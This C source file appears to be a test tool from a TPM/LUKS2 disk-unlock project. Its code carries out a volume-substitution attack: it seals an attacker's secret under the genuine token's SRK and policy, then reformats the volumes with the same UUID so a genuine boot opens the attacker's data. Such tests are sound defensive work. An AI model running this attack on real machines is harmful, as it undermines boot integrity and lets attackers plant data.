/* SPDX-License-Identifier: MIT */
/*
 * forge-volumes TCTI EXT4_IMAGE VOLUME...: the attack of the
 * foreign-sealed-object-refused scenario, as someone with TPM access after
 * the lock (or with Secure Boot off) and the disk can run it.
 *
 * The first VOLUME's systemd-tpm2 token gives the public policy digest and
 * the SRK.  Under that SRK (no authorisation needed) a sealed object is
 * created with that policy and a secret the attacker chose.  Each VOLUME
 * (a file holding a partition's bytes) is then formatted as a new LUKS2
 * volume with the same LUKS UUID, keyed to that secret, with a copy of the
 * token pointing at the new object, and EXT4_IMAGE written into it,
 * encrypted in userspace (aes-xts-plain64, 512-byte sectors: no
 * device-mapper needed).  The genuine boot then unseals the attacker's
 * secret, which opens the attacker's volumes.  Test tool: never shipped.
 */
#include <errno.h>
#include <fcntl.h>
#include <libcryptsetup.h>
#include <mbedtls/aes.h>
#include <mbedtls/base64.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <unistd.h>

#include <tss2/tss2_esys.h>
#include <tss2/tss2_mu.h>
#include <tss2/tss2_rc.h>
#include <tss2/tss2_tctildr.h>

#include "luks.h"
#include "tool_tpm.h"
#include "tpm2.h"
#include "tpm2_token.h"

#define SECTOR 512

static int die(const char *what, const char *detail)
{
	fprintf(stderr, "forge-volumes: %s: %s\n", what, detail);
	exit(1);
}

/* The attacker's sealed object: the genuine token's policy, the attacker's secret. */
static void seal_own_secret(const char *tcti_conf, const struct tpm2_sealed *genuine, const uint8_t secret[32],
			    struct tpm2_sealed *forged)
{
	static const TPM2B_DATA no_outside_info;
	static const TPML_PCR_SELECTION no_creation_pcrs;
	TPM2B_SENSITIVE_CREATE sensitive = { .sensitive.data.size = 32 };
	TPM2B_PUBLIC tmpl;
	TPM2B_PRIVATE *private = NULL;
	TPM2B_PUBLIC *public = NULL;
	TSS2_TCTI_CONTEXT *tcti = NULL;
	ESYS_CONTEXT *esys;
	ESYS_TR srk = ESYS_TR_NONE;
	size_t max = sizeof(TPM2B_PRIVATE) + sizeof(TPM2B_PUBLIC), off = 0;
	TSS2_RC rc;

	memcpy(sensitive.sensitive.data.buffer, secret, 32);
	tpm2_sealed_template(&tmpl, genuine->policy_hash);
	esys = tool_tpm_open("forge-volumes", tcti_conf, &tcti);
	rc = Esys_TR_Deserialize(esys, genuine->srk, genuine->srk_len, &srk);
	if (rc != TSS2_RC_SUCCESS)
		die("the token's SRK", Tss2_RC_Decode(rc));
	rc = Esys_Create(esys, srk, ESYS_TR_PASSWORD, ESYS_TR_NONE, ESYS_TR_NONE, &sensitive, &tmpl, &no_outside_info,
			 &no_creation_pcrs, &private, &public, NULL, NULL, NULL);
	if (rc != TSS2_RC_SUCCESS)
		die("Create under the SRK", Tss2_RC_Decode(rc));

	*forged = *genuine;
	forged->blob = malloc(max);
	forged->srk = malloc(genuine->srk_len);
	if (!forged->blob || !forged->srk)
		die("malloc", strerror(ENOMEM));
	memcpy(forged->srk, genuine->srk, genuine->srk_len);
	if (Tss2_MU_TPM2B_PRIVATE_Marshal(private, forged->blob, max, &off) != TSS2_RC_SUCCESS ||
	    Tss2_MU_TPM2B_PUBLIC_Marshal(public, forged->blob, max, &off) != TSS2_RC_SUCCESS)
		die("marshal", "the new object");
	forged->blob_len = off;
	Esys_Free(private);
	Esys_Free(public);
	tool_tpm_close(&esys, &tcti);
}

/* @image's bytes, encrypted with @cd's volume key, from the volume's data offset on. */
static void write_encrypted(struct crypt_device *cd, const char *path, const char *image, const char *pass,
			    size_t pass_len)
{
	char vk[64];
	size_t vk_len = sizeof(vk);
	uint64_t data = crypt_get_data_offset(cd) * 512ull, sector = 0;
	unsigned char in[SECTOR], out[SECTOR], unit[16];
	mbedtls_aes_xts_context xts;
	int in_fd, out_fd, r;
	ssize_t n;

	r = crypt_volume_key_get(cd, CRYPT_ANY_SLOT, vk, &vk_len, pass, pass_len);
	if (r < 0 || vk_len != sizeof(vk))
		die(path, "cannot get the new volume key");
	mbedtls_aes_xts_init(&xts);
	if (mbedtls_aes_xts_setkey_enc(&xts, (const unsigned char *)vk, 512) != 0)
		die(path, "cannot set the XTS key");
	in_fd = open(image, O_RDONLY);
	out_fd = open(path, O_WRONLY);
	if (in_fd < 0 || out_fd < 0)
		die(image, strerror(errno));
	while ((n = read(in_fd, in, sizeof(in))) > 0) {
		if (n != SECTOR)
			die(image, "not a whole number of 512-byte sectors");
		/* plain64: the sector number, little-endian, zero-padded to the block size. */
		memset(unit, 0, sizeof(unit));
		for (int i = 0; i < 8; i++)
			unit[i] = (unsigned char)(sector >> (8 * i));
		if (mbedtls_aes_crypt_xts(&xts, MBEDTLS_AES_ENCRYPT, SECTOR, unit, in, out) != 0 ||
		    pwrite(out_fd, out, SECTOR, (off_t)(data + sector * SECTOR)) != SECTOR)
			die(path, "cannot write an encrypted sector");
		sector++;
	}
	mbedtls_aes_xts_free(&xts);
	close(in_fd);
	close(out_fd);
	printf("forge-volumes: %s: %llu sectors of %s written\n", path, (unsigned long long)sector, image);
}

static void forge(const char *path, const char *image, const struct tpm2_sealed *forged, const char *pass,
		  size_t pass_len)
{
	const struct crypt_pbkdf_type fast = {
		.type = CRYPT_KDF_PBKDF2, .hash = "sha512", .iterations = 1000, .flags = CRYPT_PBKDF_NO_BENCHMARK,
	};
	struct crypt_params_luks2 params = { .sector_size = SECTOR };
	struct crypt_device *cd = NULL;
	char uuid[40], *json = NULL;
	int keyslot, token, r;

	if (crypt_init(&cd, path) < 0 || crypt_load(cd, CRYPT_LUKS2, NULL) < 0)
		die(path, "not a LUKS2 volume");
	snprintf(uuid, sizeof(uuid), "%s", crypt_get_uuid(cd));
	crypt_free(cd);

	/* The same LUKS UUID: nothing on the disk tells this volume from the genuine one. */
	r = crypt_init(&cd, path);
	if (r >= 0)
		r = crypt_set_pbkdf_type(cd, &fast);
	if (r >= 0)
		r = crypt_format(cd, CRYPT_LUKS2, "aes", "xts-plain64", uuid, NULL, 64, &params);
	if (r < 0)
		die(path, "cannot format");
	keyslot = crypt_keyslot_add_by_volume_key(cd, CRYPT_ANY_SLOT, NULL, 0, pass, pass_len);
	if (keyslot < 0 || tpm2_token_build(forged, keyslot, &json) < 0)
		die(path, "cannot add the keyslot or build the token");
	token = crypt_token_json_set(cd, CRYPT_ANY_TOKEN, json);
	if (token < 0 || crypt_token_assign_keyslot(cd, token, keyslot) < 0)
		die(path, "cannot add the token");
	write_encrypted(cd, path, image, pass, pass_len);
	crypt_free(cd);
	free(json);
	printf("forge-volumes: %s: LUKS2 %s, keyed to the attacker's secret\n", path, uuid);
}

int main(int argc, char **argv)
{
	struct tpm2_sealed genuine = { 0 }, forged = { 0 };
	struct reason why = { "" };
	uint8_t secret[32];
	char *json = NULL, pass[64];
	size_t pass_len = 0;
	int keyslot;

	if (argc < 4) {
		fprintf(stderr, "usage: forge-volumes TCTI EXT4_IMAGE VOLUME...\n");
		return 2;
	}
	/* Plain files, no /run/cryptsetup here. */
	crypt_metadata_locking(NULL, 0);
	if (luks_read_token(argv[3], TPM2_TOKEN_TYPE, &json) < 0)
		die(argv[3], "no systemd-tpm2 token");
	if (tpm2_token_parse(json, &genuine, &keyslot, &why) < 0)
		die(argv[3], why.text);
	free(json);
	if (getrandom(secret, sizeof(secret), 0) != (ssize_t)sizeof(secret))
		die("getrandom", strerror(errno));
	seal_own_secret(argv[1], &genuine, secret, &forged);
	if (mbedtls_base64_encode((unsigned char *)pass, sizeof(pass), &pass_len, secret, sizeof(secret)) != 0)
		die("base64", "secret");
	for (int i = 3; i < argc; i++)
		forge(argv[i], argv[2], &forged, pass, pass_len);
	tpm2_sealed_free(&genuine);
	tpm2_sealed_free(&forged);
	return 0;
}
